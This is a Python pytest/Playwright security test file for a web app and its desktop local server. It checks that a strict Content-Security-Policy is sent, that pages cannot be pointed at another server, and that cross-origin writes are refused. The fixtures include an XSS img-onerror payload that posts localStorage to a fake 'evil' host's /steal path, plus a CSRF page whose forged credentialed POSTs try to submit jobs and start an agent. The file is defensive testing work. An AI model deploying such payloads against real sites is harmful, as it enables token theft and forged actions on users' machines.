"""The pages talk only to their own origin, under a strict CSP; the desktop server refuses CSRF.

Real servers on loopback port 0 and Debian's Chromium: a coordinator with tokens, a fake
"evil" server on another port answering markup where numbers belong, the desktop app's local
server, and a static page on yet another loopback port (same site, another origin).
"""

from __future__ import annotations

import contextlib
import http.server
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from compound.desktop.server import WEB_DIR, LocalAppState, LocalServer
from compound.desktop.settings import SettingsStore, settings_from_dict
from compound.desktop.sidecar import AgentSidecar
from support import Agent, Coordinator, csp_violations, wait_until
from test_ui_auth import Secured, secured  # noqa: F401  (a fixture, used by name)

UI_TIMEOUT_MS = 30_000


# ------------------------------------------------------------------ servers on other ports


@dataclass
class Seen:
    """One request a fake server received."""

    method: str
    path: str
    headers: dict[str, str]
    body: str

    def carries(self, secret: str) -> bool:
        return (
            secret in self.path
            or secret in self.body
            or any(secret in value for value in self.headers.values())
        )


@dataclass
class FakeServer:
    url: str
    seen: list[Seen] = field(default_factory=list)


def _serve(handler: type[http.server.BaseHTTPRequestHandler]) -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def _payload(evil_url: str) -> str:
    """Markup that, once parsed as HTML on the page, posts the page's localStorage to evil."""
    steal = (
        f"fetch('{evil_url}/steal', {{method: 'POST', mode: 'no-cors', "
        "body: JSON.stringify(localStorage)})"
    )
    return f'<img id="evil-injected" src="x" onerror="{steal}">'


def _evil_answer(path: str, evil_url: str) -> tuple[int, Any]:
    """The API's shapes, with markup where the pages expect numbers."""
    markup = _payload(evil_url)
    if path == "/api/v1/jobs":
        job = {"id": "evil-1", "status": "failed", "exit_code": markup, "created_at": time.time()}
        return 200, {"jobs": [job]}
    if path == "/api/v1/contributors":
        return 200, {"contributors": [{"name": "evil", "state": "idle", "cores": markup}]}
    if path == "/healthz":
        return 200, {"running": 0, "queued": 0, "contributors_online": 1}
    return 404, {"detail": "no"}


@pytest.fixture
def evil() -> Iterator[FakeServer]:
    """A server on another loopback port answering the API's shapes with markup strings."""
    fake = FakeServer(url="")

    class Evil(http.server.BaseHTTPRequestHandler):
        def _record(self) -> None:
            length = int(self.headers.get("content-length") or 0)
            body = self.rfile.read(length).decode("latin-1") if length else ""
            headers = {k.lower(): v for k, v in self.headers.items()}
            fake.seen.append(Seen(self.command, self.path, headers, body))

        def _answer(self, status: int, payload: Any = None) -> None:
            data = b"" if payload is None else json.dumps(payload).encode()
            self.send_response(status)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Access-Control-Allow-Headers", "*")
            self.send_header("Access-Control-Allow-Methods", "GET, POST, PUT")
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_OPTIONS(self) -> None:
            self._record()
            self._answer(204)

        def do_POST(self) -> None:
            self._record()
            self._answer(204)

        def do_GET(self) -> None:
            self._record()
            self._answer(*_evil_answer(self.path.split("?", 1)[0], fake.url))

        def log_message(self, format: str, *args: Any) -> None:
            pass

    for url in _serve(Evil):
        fake.url = url
        yield fake


@pytest.fixture
def other_port_page(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A static web server on another loopback port: the same site, another origin."""
    root = tmp_path / "elsewhere"
    root.mkdir()

    class Static(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, directory=str(root), **kwargs)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    for url in _serve(Static):
        yield url, root


# ------------------------------------------------------------------ (a) a link's coordinator


@pytest.mark.timeout(120)
@pytest.mark.parametrize("page_name", ["contributors.html", "jobs.html"])
def test_a_link_cannot_point_the_pages_at_another_server(
    secured: Secured,  # noqa: F811
    evil: FakeServer,
    page: Page,
    page_name: str,
) -> None:
    """`?coordinator=<evil>` sends evil nothing (token or not) and injects no element."""
    token = secured.tokens["admin"]
    page.goto(secured.url + "/index.html")
    page.evaluate(
        "([key, token]) => localStorage.setItem(key, token)",
        [f"compound.token:{secured.url}", token],
    )
    page.goto(f"{secured.url}/{page_name}?coordinator={evil.url}")
    # The page has loaded its data and rendered it, from wherever it asked.
    expect(page.locator("#refreshed")).to_contain_text("Updated", timeout=UI_TIMEOUT_MS)
    assert page.locator("#evil-injected").count() == 0
    assert not [seen for seen in evil.seen if seen.carries(token)]
    assert evil.seen == [], [f"{seen.method} {seen.path}" for seen in evil.seen]


# ------------------------------------------------------------------ (b) the policy


def _directives(header: str) -> dict[str, list[str]]:
    parsed: dict[str, list[str]] = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            parsed[words[0]] = words[1:]
    return parsed


def assert_strict_policy(response: httpx.Response) -> None:
    """The answer carries the pages' CSP: self only, nothing inline, no eval, no framing."""
    where = f"{response.request.method} {response.request.url.path}"
    header = response.headers.get("content-security-policy")
    assert header, f"{where} has no Content-Security-Policy"
    policy = _directives(header)
    assert policy["default-src"] == ["'self'"], where
    assert policy["script-src"] == ["'self'"], where
    for name in ("style-src", "img-src", "font-src"):
        assert policy[name] == ["'self'"], (where, name)
    assert policy["object-src"] == ["'none'"], where
    assert policy["base-uri"] == ["'none'"], where
    assert policy["frame-ancestors"] == ["'none'"], where
    assert policy["form-action"] == ["'self'"], where
    connect = policy["connect-src"]
    assert connect[0] == "'self'", where
    host = response.request.url.netloc.decode()
    assert set(connect[1:]) <= {f"ws://{host}", f"wss://{host}"}, where
    for name, sources in policy.items():
        for source in sources:
            assert source not in ("'unsafe-inline'", "'unsafe-eval'", "*", "data:", "blob:"), where
            assert "://" not in source or source.endswith(host), (where, name, source)
    assert response.headers.get("x-content-type-options") == "nosniff", where


def _static_paths() -> list[str]:
    return sorted("/" + str(p.relative_to(WEB_DIR)) for p in WEB_DIR.rglob("*") if p.is_file())


@pytest.mark.timeout(60)
def test_every_page_and_static_answer_of_the_coordinator_has_the_policy(
    coordinator: Coordinator,
) -> None:
    """Each file under web/, the root and a missing page answer with the strict CSP."""
    paths = ["/", "/no-such-page.html", *_static_paths()]
    assert "/jobs.html" in paths and "/js/api.js" in paths
    with httpx.Client(base_url=coordinator.url, timeout=10) as client:
        for path in paths:
            assert_strict_policy(client.get(path))


@pytest.mark.timeout(180)
def test_pages_used_normally_report_no_policy_violation(
    coordinator: Coordinator, agent: Agent, page: Page, tmp_path: Path
) -> None:
    """Submit and watch a job, then visit every page: under the CSP nothing is refused."""
    violations = csp_violations(page)
    response = page.goto(coordinator.url + "/index.html")
    assert response is not None and "content-security-policy" in response.headers
    page.get_by_test_id("role-submit").click()
    script = tmp_path / "policy.py"
    script.write_text("print('\\x1b[32mgreen\\x1b[0m under the policy')\n")
    page.get_by_test_id("script-input").set_input_files(script)
    page.get_by_test_id("submit-button").click()
    expect(page.get_by_test_id("status-badge")).to_have_text("Complete ✓", timeout=90_000)
    assert "green under the policy" in page.evaluate("window.compoundLog.text()")
    for name in ("jobs.html", "contributors.html", "contributor.html", "index.html"):
        page.goto(f"{coordinator.url}/{name}")
        page.wait_for_load_state("load")
    page.goto(coordinator.url + "/jobs.html")
    expect(page.get_by_test_id("job-status").first).to_have_text("Complete ✓")
    page.goto(coordinator.url + "/contributors.html")
    expect(page.get_by_test_id("contributor-state").first).to_have_text("Idle")
    assert violations == []


# ------------------------------------------------------------------ the desktop's local server


@dataclass
class Desktop:
    server: LocalServer
    sidecar: AgentSidecar


@pytest.fixture
def desktop(coordinator: Coordinator, tmp_path: Path) -> Iterator[Desktop]:
    """The desktop app's local server, in this process, pointed at the test coordinator."""
    store = SettingsStore(tmp_path / "config")
    store.save(settings_from_dict({"coordinator_url": coordinator.url}, base=store.load()))
    sidecar = AgentSidecar(tmp_path / "config" / "agent", tmp_path / "config" / "agent.log")
    server = LocalServer(LocalAppState(store=store, sidecar=sidecar))
    server.start()
    yield Desktop(server, sidecar)
    sidecar.stop()
    server.stop()


@contextlib.contextmanager
def _cookie_client(server: LocalServer) -> Iterator[httpx.Client]:
    """A client holding the session cookie, as the app's window does after its first visit."""
    with httpx.Client(base_url=server.base_url, timeout=10) as client:
        assert client.get(server.launch_url()).status_code == 303
        yield client


@pytest.mark.timeout(60)
def test_the_desktop_pages_have_the_policy(desktop: Desktop) -> None:
    """The local server's pages and static files answer with the same CSP, eval refused too."""
    with _cookie_client(desktop.server) as client:
        for path in ["/", "/jobs.html", "/js/api.js", "/css/compound.css", "/no-such-page"]:
            assert_strict_policy(client.get(path))


CSRF_PAGE = """<!doctype html><meta charset="utf-8"><title>same site, other port</title>
<script>
const app = "{app}";
window.sent = [];
(async () => {{
  for (const path of ["/api/v1/jobs", "/submit-job", "/local/api/agent/start"]) {{
    try {{
      await fetch(app + path, {{ method: "POST", mode: "no-cors", credentials: "include",
        headers: {{ "Content-Type": "text/plain" }},
        body: JSON.stringify({{ script: "print('forged')" }}) }});
    }} catch (err) {{ /* a refusal is fine */ }}
    window.sent.push(path);
  }}
}})();
</script>"""


@pytest.mark.timeout(120)
def test_a_page_on_another_loopback_port_cannot_drive_the_desktop_server(
    desktop: Desktop,
    coordinator: Coordinator,
    other_port_page: tuple[str, Path],
    page: Page,
) -> None:
    """Its no-cors text/plain POSTs carry the session cookie, and are refused: no job, no agent."""
    origin, root = other_port_page
    (root / "index.html").write_text(CSRF_PAGE.format(app=desktop.server.base_url))
    page.goto(desktop.server.launch_url())  # the window's visit: the session cookie is set
    expect(page.get_by_test_id("role-submit")).to_be_visible()
    page.goto(origin + "/index.html")
    page.wait_for_function("window.sent && window.sent.length === 3")
    assert coordinator.api("GET", "/api/v1/jobs").json()["jobs"] == []
    assert desktop.sidecar.status().running is False


@pytest.mark.timeout(60)
def test_the_desktop_server_checks_origin_and_content_type_on_writes(
    desktop: Desktop, coordinator: Coordinator
) -> None:
    """Writes from another origin or with a form-like content type are refused; its own pass."""
    own = desktop.server.base_url
    other = "http://127.0.0.1:1"
    body = json.dumps({"script": "print(1)"})
    json_type = {"Content-Type": "application/json"}
    with _cookie_client(desktop.server) as client:
        refusals = [
            client.post("/api/v1/jobs", content=body, headers={**json_type, "Origin": other}),
            client.post("/api/v1/jobs", content=body, headers={**json_type, "Origin": "null"}),
            client.post(
                "/api/v1/jobs", content=body, headers={**json_type, "Sec-Fetch-Site": "same-site"}
            ),
            client.post("/local/api/agent/stop", headers={"Origin": other}),
            client.put("/local/api/settings", content="{}", headers={**json_type, "Origin": other}),
        ]
        for refused in refusals:
            assert refused.status_code == 403, (refused.request.url, refused.text)
        for content_type in (
            "text/plain",
            "text/plain;charset=UTF-8",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
        ):
            plain = client.post(
                "/api/v1/jobs", content=body, headers={"Content-Type": content_type, "Origin": own}
            )
            assert plain.status_code == 415, (content_type, plain.text)
        assert coordinator.api("GET", "/api/v1/jobs").json()["jobs"] == []
        same = {"Origin": own, "Sec-Fetch-Site": "same-origin"}
        accepted = client.post("/api/v1/jobs", content=body, headers={**json_type, **same})
        assert accepted.status_code == 201, accepted.text
        # A client that is not a browser sends neither header; it still needs the cookie.
        assert client.get("/local/api/agent").status_code == 200
        assert client.post("/local/api/agent/stop").status_code == 200
        assert httpx.post(own + "/local/api/agent/stop", timeout=10).status_code == 403
    wait_until(lambda: coordinator.api("GET", "/api/v1/jobs").json()["jobs"], 10, "the job")
